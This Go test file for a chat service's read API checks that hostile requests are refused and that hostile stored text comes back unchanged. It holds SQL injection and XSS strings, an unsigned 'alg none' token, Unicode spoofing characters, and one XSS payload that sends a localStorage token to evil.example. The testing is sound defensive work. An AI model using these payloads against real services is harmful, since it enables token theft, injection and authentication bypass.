package query

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/go-json-experiment/json"

	"happychat/query/openapi"
	"happychat/schemas"
)

// Hostile input against the read routes (docs/hostile-inputs.md). The
// ordinary bad parameters are in refusedBeforeStores; these add injection
// attempts, hostile encodings and hostile tokens (refused before any store
// is asked), and, against the real stores, hostile text coming back out of
// the views exactly as it went in, and reads that change nothing stored.

func hostileRefusals() []badCase {
	const (
		bad = http.StatusBadRequest
		r   = "/v1/rooms/7265401934405767168"
	)
	b64 := func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
	algNone := b64(`{"alg":"none","typ":"JWT"}`) + "." + b64(`{"nick":"m","iss":"happychat","sub":"7","exp":9999999999}`) + "."
	cb, cu := schemas.CodeBadRequest, schemas.CodeUnauthorized
	q := url.QueryEscape
	return []badCase{
		{"SQL in before", r + "/messages?before=" + q("1; DROP TABLE rooms"), "", bad, cb},
		{"SQL quote in after", r + "/messages?after=" + q("1' OR '1'='1"), "", bad, cb},
		{"SQL in the room id", "/v1/rooms/" + q("1 OR 1=1"), "", bad, cb},
		{"SQL in status", "/v1/rooms?status=" + q("open' --"), "", bad, cb},
		{"SQL in bucket", "/v1/analytics/activity?bucket=" + q("hour) FROM messages; --"), "", bad, cb},
		{"XSS in the room id", "/v1/rooms/" + q("<img src=x onerror=alert(1)>"), "", bad, cb},
		{"XSS in an analytics room", "/v1/analytics/top-senders?room=" + q("<img src=x onerror=alert(1)>"), "", bad, cb},
		{"NUL in the room id", "/v1/rooms/42%00", "", bad, cb},
		{"NUL in limit", r + "/messages?limit=5%00", "", bad, cb},
		{"invalid UTF-8 in the room id", "/v1/rooms/%FF%FE", "", bad, cb},
		{"invalid UTF-8 in before", r + "/messages?before=%C0%AF", "", bad, cb},
		{"room id in Arabic-Indic digits", "/v1/rooms/%D9%A4%D9%A2", "", bad, cb},
		{"room id in fullwidth digits", "/v1/rooms/%EF%BC%94%EF%BC%92", "", bad, cb},
		{"limit in Devanagari digits", r + "/messages?limit=%E0%A5%AB", "", bad, cb},
		{"limit as an exponent", r + "/messages?limit=1e2", "", bad, cb},
		{"room id above 2^63", "/v1/rooms/9223372036854775808", "", bad, cb},
		{"before of 10 kB of digits", r + "/messages?before=" + strings.Repeat("9", 10_000), "", bad, cb},
		{"RTL override in an id", r + "/messages?before=" + q("12\u202e34"), "", bad, cb},
		{"zero-width in an id", r + "/messages?before=" + q("12\u200b34"), "", bad, cb},
		{"from with a NUL", "/v1/analytics/activity?from=2026-01-01T00:00:00Z%00", "", bad, cb},
		{"from in year 12026", "/v1/analytics/activity?from=" + q("+12026-01-01T00:00:00Z"), "", bad, cb},
		{"from with month 13", "/v1/analytics/activity?from=2026-13-01T00:00:00Z", "", bad, cb},
		{"parameter name of 8 kB", "/v1/rooms?" + strings.Repeat("x", 8<<10) + "=1", "", bad, cb},
		{"hostile parameter name", "/v1/rooms?" + q("<script>") + "=1", "", bad, cb},
		{"alg none token", "/v1/rooms", "Bearer " + algNone, http.StatusUnauthorized, cu},
		{"token of 32 kB", "/v1/rooms", "Bearer " + strings.Repeat("A", 32<<10), http.StatusUnauthorized, cu},
		{"two bearers", "/v1/rooms", "Bearer a.b.c Bearer d.e.f", http.StatusUnauthorized, cu},
	}
}

// Every hostile request is refused with the envelope before a store is
// asked (the unit service has none: reaching one would panic), with a
// short message that is valid UTF-8.
func TestHostileReadsAreRefused(t *testing.T) {
	t.Parallel()
	doc, err := openapi.Load()
	if err != nil {
		t.Fatal(err)
	}
	engine := testEngine(unitService(t))
	for _, tc := range hostileRefusals() {
		t.Run(tc.name, func(t *testing.T) {
			req := httptest.NewRequest(http.MethodGet, "http://query.test"+tc.path, nil)
			if tc.auth != "" {
				req.Header.Set("Authorization", tc.auth)
			}
			w := httptest.NewRecorder()
			engine.ServeHTTP(w, req)
			checkRefusal(t, doc, tc, w.Code, w.Header(), w.Body.Bytes())
			var eb schemas.ErrorBody
			_ = json.Unmarshal(w.Body.Bytes(), &eb)
			// Client input named in a message is quoted and cut short.
			if !utf8.ValidString(eb.Error.Message) || len(eb.Error.Message) > 300 {
				t.Fatalf("message of %d bytes: %.200q", len(eb.Error.Message), eb.Error.Message)
			}
		})
	}
}

// hostileTexts are valid text that is hostile to whoever renders it.
var hostileTexts = []string{
	`<script>alert(document.cookie)</script>`,
	`<img src=x onerror="fetch('//evil.example/'+localStorage.token)">`,
	`"><svg/onload=alert(1)>`,
	`'; DROP TABLE rooms; --`,
	"abc\u202edcba.exe",
	"a\u200bb\u200cc\u200dd\u2060e\ufeff",
	"Z\u0335\u0321\u0322\u0327\u0328\u031b\u0316\u0317\u0318\u0319\u031c\u031d\u031e\u031f\u0320\u0324\u0325\u0326\u0329\u032a\u032b\u032c\u032d\u032e\u032f\u0330\u0331\u0332\u0333\u0339\u033a\u033b\u033c\u0345\u0347\u0348\u0349\u034d\u034e\u0353a\u0354lgo",
	"👨‍👩‍👧 🏳️‍🌈 👍🏽 🇰🇷 행복 \u2067שלום\u2069",
	`{"type":"message","message":{"body":"forged frame"}}`,
	"line\nbreak\ttab\\backslash\"quote",
}

// Hostile text written by the projectors comes back out of every read
// path byte for byte, as JSON strings (never markup), with ids as strings;
// and no request, hostile or not, changes anything stored.
func TestHostileTextThroughTheViews(t *testing.T) {
	t.Parallel()
	e := newTestEnv(t)
	start := time.Now().UTC().Add(-time.Hour).Truncate(time.Millisecond)
	var rooms []schemas.ID
	for i, x := range hostileTexts {
		room := e.addRoom(x, schemas.RoomStatusOpen, 0, start.Add(time.Duration(i)*time.Second))
		rooms = append(rooms, room)
		user := e.newID(start)
		e.addMember(room, user, x, start.Add(time.Minute))
		e.addMessages(room, []msg{{user: user, nickname: x, body: x, at: start.Add(2 * time.Minute)}})
	}
	before := e.storedDigest(t)

	for i, room := range rooms {
		x := hostileTexts[i]
		r := e.get("/v1/rooms/"+room.String(), "")
		wantStatus(t, r, http.StatusOK)
		got := decode[schemas.Room](t, r)
		if got.Title != x || got.Description != "about "+x || got.Members == nil || (*got.Members)[0].Nickname != x {
			t.Fatalf("room %d: %+v", i, got)
		}
		checkJSONAnswer(t, r, room)

		r = e.get("/v1/rooms/"+room.String()+"/messages", "")
		wantStatus(t, r, http.StatusOK)
		page := decode[struct {
			Messages   []schemas.Message `json:"messages"`
			NextBefore schemas.ID        `json:"next_before"`
		}](t, r)
		if len(page.Messages) != 1 || page.Messages[0].Body != x || page.Messages[0].Nickname != x {
			t.Fatalf("messages of room %d: %+v", i, page.Messages)
		}
		checkJSONAnswer(t, r, room)

		r = e.get("/v1/rooms/"+room.String()+"/messages/export", "")
		wantStatus(t, r, http.StatusOK)
		if ct, nosniff := r.header.Get("Content-Type"), r.header.Get("X-Content-Type-Options"); ct != "application/x-ndjson" || nosniff != "nosniff" {
			t.Fatalf("export content type %q, nosniff %q", ct, nosniff)
		}
		sc := bufio.NewScanner(bytes.NewReader(r.body))
		sc.Buffer(nil, 1<<20)
		lines := 0
		for sc.Scan() {
			lines++
			var m schemas.Message
			if err := schemas.StrictUnmarshal(sc.Bytes(), &m); err != nil || m.Body != x {
				t.Fatalf("export line %q: %v", sc.Bytes(), err)
			}
		}
		if lines != 1 {
			t.Fatalf("export of room %d: %d lines", i, lines)
		}
	}
	r := e.get("/v1/rooms", "")
	wantStatus(t, r, http.StatusOK)
	if list := decode[testRooms](t, r).Rooms; len(list) != len(hostileTexts) {
		t.Fatalf("%d rooms listed", len(list))
	}

	// Hostile requests, then parameters that parse and reach the stores
	// (ids above 2^53, the extremes of every range): nothing stored changes.
	for _, tc := range hostileRefusals() {
		resp := e.raw(tc.path, tc.auth)
		if resp.status/100 != 4 {
			t.Fatalf("%s: %d", tc.name, resp.status)
		}
	}
	for _, path := range []string{
		"/v1/rooms/9007199254740993",
		"/v1/rooms/9223372036854775807/messages?before=9223372036854775807&limit=200",
		"/v1/rooms/" + rooms[0].String() + "/messages?after=1&limit=1",
		"/v1/analytics/top-senders?from=2000-01-01T00:00:00Z&limit=100",
		"/v1/analytics/activity?bucket=day&from=2026-01-01T00:00:00Z&to=2026-01-02T00:00:00Z",
	} {
		if resp := e.raw(path, ""); resp.status >= 500 {
			t.Fatalf("%s: %d %s", path, resp.status, resp.body)
		}
	}
	if after := e.storedDigest(t); after != before {
		t.Fatalf("reads changed the stores:\nbefore %s\nafter  %s", before, after)
	}
}

// checkJSONAnswer checks an answer is JSON, declared so, and carries ids
// as strings.
func checkJSONAnswer(t *testing.T, r response, room schemas.ID) {
	t.Helper()
	if ct := r.header.Get("Content-Type"); ct != "application/json; charset=utf-8" {
		t.Fatalf("content type %q", ct)
	}
	if !bytes.Contains(r.body, []byte(`"`+room.String()+`"`)) {
		t.Fatalf("room id %d is not a JSON string in %s", room, truncate(r.body))
	}
	if bytes.Contains(r.body, []byte(fmt.Sprint(`:`, room.String()))) {
		t.Fatalf("room id %d as a JSON number in %s", room, truncate(r.body))
	}
}

// raw GETs path without the OpenAPI check (refusals of paths the document
// cannot route are part of the point).
func (e *testEnv) raw(path, auth string) response {
	e.t.Helper()
	req, err := http.NewRequest(http.MethodGet, e.srv.URL+path, nil)
	if err != nil {
		e.t.Fatal(err)
	}
	if auth != "" {
		req.Header.Set("Authorization", auth)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatalf("GET %s: %v", path, err)
	}
	defer resp.Body.Close()
	var b bytes.Buffer
	_, _ = b.ReadFrom(resp.Body)
	return response{resp.StatusCode, resp.Header, b.Bytes()}
}

// storedDigest summarises every table both stores hold for the service.
func (e *testEnv) storedDigest(t *testing.T) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	var out []string
	for _, table := range []string{"rooms", "members", "room_messages", "read_marks", "users"} {
		var d string
		if err := e.pg.QueryRow(ctx, `SELECT count(*)::text || ':' || coalesce(md5(string_agg(t::text, ',' ORDER BY t::text)), '') FROM `+table+` t`).Scan(&d); err != nil {
			t.Fatalf("%s: %v", table, err)
		}
		out = append(out, table+"="+d)
	}
	for _, q := range []string{
		`SELECT count(), sum(id), sum(length(body)), sum(length(nickname)) FROM messages`,
		`SELECT count(), sum(id), sum(seq), toUInt64(0) FROM room_events`,
	} {
		var a, b, c, d uint64
		if err := e.ch.QueryRow(ctx, q).Scan(&a, &b, &c, &d); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
		out = append(out, fmt.Sprint(a, "/", b, "/", c, "/", d))
	}
	return strings.Join(out, " ")
}

// FuzzReadParams feeds any query string to the parameter parsers every
// read route uses: no panic; a refusal is a bad_request with a short,
// valid UTF-8 message; an accepted value is within its contract (allowed
// and unrepeated names, positive canonical ids, bounded integers, times
// between the years 2000 and 9999 in UTC, enum members).
func FuzzReadParams(f *testing.F) {
	for _, s := range []string{
		"before=7265401934405767168&limit=50",
		"after=1&limit=200",
		"bucket=minute&from=2026-01-01T00:00:00Z&to=2026-01-02T00:00:00.123+09:00",
		"status=proposed",
		"before=1%3BDROP%20TABLE%20rooms",
		"limit=%E0%A5%AB",
		"room=%D9%A4%D9%A2",
		"from=%2B12026-01-01T00:00:00Z",
		"%zz",
		"a=1&a=2",
		"limit=007",
	} {
		f.Add(s)
	}
	allowed := []string{"before", "after", "limit", "room", "from", "to", "bucket", "status"}
	refused := func(t *testing.T, err error) {
		t.Helper()
		var e *schemas.Error
		if !errors.As(err, &e) || e.Code != schemas.CodeBadRequest || !utf8.ValidString(e.Message) || len(e.Message) > 300 {
			t.Fatalf("refusal %#v", err)
		}
	}
	f.Fuzz(func(t *testing.T, raw string) {
		p, err := parseParams(raw, allowed...)
		if err != nil {
			refused(t, err)
			return
		}
		for name, vs := range p.v {
			if !slices.Contains(allowed, name) || len(vs) != 1 {
				t.Fatalf("accepted %q = %q", name, vs)
			}
		}
		for _, name := range []string{"before", "after", "room"} {
			id, err := p.optID(name)
			if err != nil {
				refused(t, err)
				continue
			}
			if s, ok := p.get(name); ok && (id <= 0 || id.String() != s) {
				t.Fatalf("%s=%q parsed as %d", name, s, id)
			}
		}
		if n, err := p.optInt("limit", 50, 1, 200); err != nil {
			refused(t, err)
		} else if n < 1 || n > 200 {
			t.Fatalf("limit %d", n)
		}
		for _, name := range []string{"from", "to"} {
			tm, ok, err := p.optTime(name)
			if err != nil {
				refused(t, err)
				continue
			}
			if ok && (tm.Year() < 2000 || tm.Year() > 9999 || tm.Location() != time.UTC) {
				t.Fatalf("%s parsed as %v", name, tm)
			}
		}
		if b, err := p.optEnum("bucket", "hour", "minute", "hour", "day"); err != nil {
			refused(t, err)
		} else if !slices.Contains([]string{"minute", "hour", "day"}, b) {
			t.Fatalf("bucket %q", b)
		}
		if s, ok := p.get("room"); ok {
			if id, err := roomPathID(s); err == nil && id.String() != s {
				t.Fatalf("room path %q parsed as %d", s, id)
			} else if err != nil {
				refused(t, err)
			}
		}
	})
}
